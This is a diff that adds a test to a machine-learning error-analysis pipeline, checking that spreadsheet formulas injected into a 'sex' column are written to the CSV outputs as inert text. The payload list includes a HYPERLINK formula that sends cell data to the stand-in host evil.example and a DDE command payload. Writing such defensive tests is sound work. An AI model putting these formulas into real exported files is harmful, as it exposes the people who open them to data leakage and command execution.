@@ -123,3 +123,21 @@ def test_a_quarter_million_rows_are_analysed_and_written_in_loss_order(
     big = analyze(batch, np.column_stack([1 - p1, p1]), [0, 1], config)
     table = pd.read_csv(write_outputs(big, tmp_path)["error_analysis"])
     assert len(table) == n and table["loss"].is_monotonic_decreasing
+
+
+def test_formulas_from_the_batch_reach_the_csv_files_as_text(config: PipelineConfig, tmp_path: Path) -> None:
+    """The attack (issue 13, case 5): category values that a spreadsheet would run."""
+    batch, _ = make_batch(german_credit(), n_rows=300, seed=5, label_noise=0.2)
+    payloads = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+                "\t=1+1"]
+    batch["sex"] = batch["sex"].astype(object)
+    for index, payload in enumerate(payloads):
+        batch.loc[batch.index[index::len(payloads)], "sex"] = payload
+    result = run_error_analysis(batch, config, champion=None, folds=3, seed=0, epochs=2, device="cpu")
+    paths = write_outputs(result, tmp_path / "out", top_k=20)
+    for name in ("error_analysis", "review_queue"):
+        cells = set(pd.read_csv(paths[name], keep_default_na=False)["sex"])
+        assert cells and all(not cell.startswith(("=", "+", "-", "@", "\t")) for cell in cells), (name, cells)
+    written = set(pd.read_csv(paths["error_analysis"], keep_default_na=False)["sex"])
+    assert "'" + payloads[0] in written  # the value is kept, as text
+    assert pd.read_csv(paths["error_analysis"])["loss"].dtype.kind == "f"  # numbers stay numbers
